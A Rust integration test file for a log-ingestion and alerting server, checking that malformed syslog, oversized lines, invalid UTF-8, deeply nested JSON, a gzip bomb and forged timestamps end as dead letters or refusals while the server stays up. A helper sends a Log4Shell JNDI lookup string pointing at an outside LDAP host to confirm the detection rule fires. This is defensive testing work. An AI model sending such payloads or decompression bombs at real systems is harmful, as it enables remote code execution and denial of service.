//! Issue 2, "Bad input": each ends in a clear error or a dead letter; memory stays bounded; the server stays up.

use std::fmt::Write as _;
use std::fs;
use std::io::Write as _;
use std::net::{TcpStream, UdpSocket};
use std::time::{Duration, Instant};

use serde_json::Value;
use vigie_server::{Options, Syslog, SyslogProtocol};

use crate::cli::gzip;
use crate::test_server::TestServer;

const GOOD: &str = "<86>Nov 22 09:00:00 web-01 sshd[1]: Failed password for root from 203.0.113.4 port 1 ssh2\n";
const MIB: u64 = 1024 * 1024;

#[test]
fn malformed_syslog_ends_as_dead_letters() {
    let server = server();
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let mut stream = TcpStream::connect(server.syslog(1)).unwrap();
    for bad in
        [b"<9999>no such priority".as_slice(), b"\xff\xfe\xfd", b"<13", b"\0\x01\x02", b"<86>1 not-a-time - - - - -"]
    {
        socket.send_to(bad, server.syslog(0)).unwrap();
        stream.write_all(bad).unwrap();
        stream.write_all(b"\n").unwrap();
    }
    socket.send_to(GOOD.as_bytes(), server.syslog(0)).unwrap();
    stream.write_all(GOOD.as_bytes()).unwrap();
    // What has no priority is a message all the same (RFC 3164 §4.3.3); what is no message at all is kept with its reason.
    server.eventually("/api/v1/events?limit=1&q=src.ip:203.0.113.4", |found| found["total"] == 2);
    let letters = dead_letters(&server, 1);
    assert!(letters.iter().all(|letter| letter["tenant"] == "acme"), "{letters:#?}");
    still_works(&server);
}

#[test]
fn a_line_of_100_mb_costs_no_memory() {
    let server = server();
    let mut stream = TcpStream::connect(server.syslog(1)).unwrap();
    // The connection and the pipeline are warm before memory is measured.
    stream.write_all(GOOD.as_bytes()).unwrap();
    server.eventually("/api/v1/events?limit=1", |found| found["total"] == 1);
    let before = memory();
    let mut most = before;
    stream.write_all(b"<13>Nov 22 09:00:00 web-01 app: ").unwrap();
    let chunk = vec![b'a'; MIB as usize];
    for _ in 0..100 {
        stream.write_all(&chunk).unwrap();
        most = most.max(memory());
    }
    stream.write_all(b"\n").unwrap();
    stream.write_all(GOOD.as_bytes()).unwrap();
    server.eventually("/api/v1/events?limit=1&q=src.ip:203.0.113.4", |found| found["total"] == 2);
    most = most.max(memory());
    println!("{} MiB before, {} MiB at most", before / MIB, most / MIB);
    assert!(most - before < 100 * MIB, "{} MiB more", (most - before) / MIB);
    let letters = dead_letters(&server, 1);
    assert_eq!(letters[0]["code"], "too_long", "{}", letters[0]["reason"]);
    still_works(&server);
}

#[test]
fn invalid_utf8_is_kept_byte_for_byte() {
    let server = server();
    let line = b"Nov 22 09:00:00 web-01 sshd[1]: Failed password for r\xffot from 203.0.113.5 port 1 ssh2\n";
    let (status, answer) = server.ingest("acme", "linux_auth", None, line);
    assert_eq!((status, &answer["accepted"]), (200, &Value::from(1)), "{answer}");
    let found = server.eventually("/api/v1/events?q=src.ip:203.0.113.5", |found| found["total"] == 1);
    let event = &found["events"][0];
    assert!(event["native"].as_str().unwrap().contains("r\u{fffd}ot"), "{event}");
    assert!(event["native_base64"].is_string(), "{event}");
    // JSON is read as far as it goes: the byte is replaced where rules look, and kept where it came from.
    let record = b"{\"eventName\": \"Get\xffObject\", \"eventSource\": \"s3.amazonaws.com\", \"eventTime\": \"2026-11-22T09:00:00Z\"}\n";
    let (status, answer) = server.ingest("acme", "cloudtrail", None, record);
    assert_eq!((status, &answer["accepted"], &answer["dead"]), (200, &Value::from(1), &Value::from(0)), "{answer}");
    let found = server.eventually("/api/v1/events?q=source:cloudtrail", |found| found["total"] == 1);
    assert!(found["events"][0]["native_base64"].is_string(), "{found}");
    still_works(&server);
}

#[test]
fn json_nested_10_000_deep_is_a_dead_letter() {
    let server = server();
    let objects = format!("{}1{}\n", "{\"a\":".repeat(10_000), "}".repeat(10_000));
    let arrays = format!("{{\"a\":{}{}}}\n", "[".repeat(10_000), "]".repeat(10_000));
    let envelopes = format!("{}1{}\n", "{\"Records\":[".repeat(10_000), "]}".repeat(10_000));
    for (source, body) in [("json", objects), ("suricata_eve", arrays), ("cloudtrail", envelopes)] {
        let (status, answer) = server.ingest("acme", source, None, body.as_bytes());
        assert_eq!(status, 200, "{source}: {answer}");
    }
    let letters = dead_letters(&server, 3);
    let codes: Vec<&Value> = letters.iter().map(|letter| &letter["code"]).collect();
    assert_eq!(codes, ["json_depth"; 3], "{letters:#?}");
    still_works(&server);
}

#[test]
fn bodies_that_do_not_unpack_are_refused_with_a_reason() {
    let server = server();
    let before = memory();
    let bomb = gzip(&gzip_layer(200));
    let whole = gzip(GOOD.repeat(100).as_bytes());
    check_refused(&server, "gzip", &bomb, 413, "larger than");
    check_refused(&server, "gzip", &whole[..whole.len() / 2], 400, "truncated");
    check_refused(&server, "gzip", b"this is no gzip", 400, "gzip");
    check_refused(&server, "zstd", &whole, 400, "zstd");
    check_refused(&server, "br", &whole, 415, "br");
    assert!(memory().saturating_sub(before) < 400 * MIB, "{} MiB more", (memory() - before) / MIB);
    still_works(&server);
}

/// So many MiB of zeroes.
fn gzip_layer(mib: usize) -> Vec<u8> {
    vec![b'0'; mib * MIB as usize]
}

#[track_caller]
fn check_refused(server: &TestServer, encoding: &str, body: &[u8], status: u16, reason: &str) {
    let (came, answer) = server.ingest("acme", "linux_auth", Some(encoding), body);
    assert_eq!(came, status, "{answer}");
    assert!(answer["detail"].as_str().unwrap_or_default().contains(reason), "{answer}");
}

/// A sender may write any time into its records: it is found at that time, and costs no folder.
#[test]
fn forged_times_are_searchable_and_make_no_folders() {
    let server = server();
    let mut log = String::new();
    let days =
        [(1970, 1, 1), (2100, 12, 31)].into_iter().chain((1971..2071).map(|year| (year, year % 12 + 1, year % 28 + 1)));
    for (year, month, day) in days {
        let month = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"][month - 1];
        let time = format!("{day:02}/{month}/{year}:00:00:00 +0000");
        writeln!(log, "192.0.2.7 - - [{time}] \"GET /{year} HTTP/1.1\" 200 5 \"-\" \"-\"").unwrap();
    }
    let (status, answer) = server.ingest("acme", "web_access", None, log.as_bytes());
    assert_eq!((status, &answer["accepted"]), (200, &Value::from(102)), "{answer}");
    server.eventually("/api/v1/events?limit=1", |found| found["total"] == 102);
    for (from, until) in [("1970-01-01", "1970-01-02"), ("2100-12-31", "2101-01-01")] {
        let path = format!("/api/v1/events?from={from}T00:00:00Z&until={until}T00:00:00Z");
        let found = server.get(&path);
        assert_eq!(found["total"], 1, "{from}: {found}");
        assert_eq!(found["events"][0]["time"].as_str().unwrap().get(..10), Some(from), "{found}");
    }
    let folders = fs::read_dir(server.data_folder().join("events/acme")).unwrap().count();
    // Two where midnight passes during the test.
    assert!(folders <= 2, "{folders} folders");
    still_works(&server);
}

#[test]
fn the_good_half_of_a_bad_batch_comes_in() {
    let server = server();
    let mut body = String::new();
    for number in 0..50 {
        writeln!(body, "{{\"timestamp\":\"2026-11-22T09:00:00.000000+0000\",\"event_type\":\"dns\",\"src_ip\":\"10.0.0.{number}\"}}").unwrap();
        writeln!(body, "{{\"timestamp\":\"2026-11-22T09:00:00.000000+0000\",\"event_type\": broken {number}").unwrap();
    }
    let (status, answer) = server.ingest("acme", "suricata_eve", None, body.as_bytes());
    assert_eq!(status, 200, "{answer}");
    server.eventually("/api/v1/events?limit=1", |found| found["total"] == 50);
    let letters = dead_letters(&server, 50);
    assert_eq!(letters.len(), 50);
    for letter in &letters {
        let reason = letter["reason"].as_str().unwrap();
        // A value that is never closed ends where the next line begins; one at the end of the body, with the body.
        assert!(["json_syntax", "json_truncated", "bad_body"].contains(&letter["code"].as_str().unwrap()), "{letter}");
        assert!(!reason.is_empty(), "{letter}");
    }
    let counts = server.get("/api/v1/dead-letters/counts");
    let counted: u64 = counts.as_array().unwrap().iter().map(|count| count["count"].as_u64().unwrap()).sum();
    assert_eq!(counted, 50, "{counts}");
    still_works(&server);
}

/// A server that takes syslog over UDP and TCP.
fn server() -> TestServer {
    TestServer::start(Options::default(), &["acme"], |config| {
        config.syslog = [SyslogProtocol::Udp, SyslogProtocol::Tcp]
            .map(|protocol| Syslog {
                protocol,
                listen: "127.0.0.1:0".parse().unwrap(),
                tenant: "acme".parse().unwrap(),
                source: "syslog".parse().unwrap(),
            })
            .into();
    })
}

/// Returns the dead letters, once there are so many.
#[track_caller]
fn dead_letters(server: &TestServer, least: usize) -> Vec<Value> {
    let answer = server.eventually("/api/v1/dead-letters?limit=1000", |answer| {
        answer["rows"].as_array().is_some_and(|rows| rows.len() >= least)
    });
    answer["rows"].as_array().unwrap().clone()
}

/// After all that, the server is ready and a good record still raises its alert.
#[track_caller]
fn still_works(server: &TestServer) {
    let start = Instant::now();
    assert_eq!(server.get("/readyz"), "ready\n");
    let time = jiff::Zoned::now().strftime("%d/%b/%Y:%H:%M:%S %z");
    let line =
        format!("203.0.113.200 - - [{time}] \"GET /?x=${{jndi:ldap://203.0.113.200/a}} HTTP/1.1\" 200 5 \"-\" \"-\"\n");
    let (status, answer) = server.ingest("acme", "web_access", None, line.as_bytes());
    assert_eq!((status, &answer["accepted"]), (200, &Value::from(1)), "{answer}");
    let alerts = server.eventually("/api/v1/alerts?limit=1000", |answer| answer["total"].as_u64() >= Some(1));
    let titles = alerts["rows"].as_array().unwrap().iter().map(|alert| alert["rule"]["title"].as_str().unwrap());
    assert!(titles.clone().any(|title| title == "Log4Shell tried"), "{:?}", titles.collect::<Vec<_>>());
    assert!(start.elapsed() < Duration::from_secs(10), "it took {:?}", start.elapsed());
}

/// Returns how much memory this process holds, in bytes (`proc_pid_status(5)`, `VmRSS`).
fn memory() -> u64 {
    let status = fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
    let kib: u64 = line.trim().trim_end_matches(" kB").parse().unwrap();
    kib * 1024
}
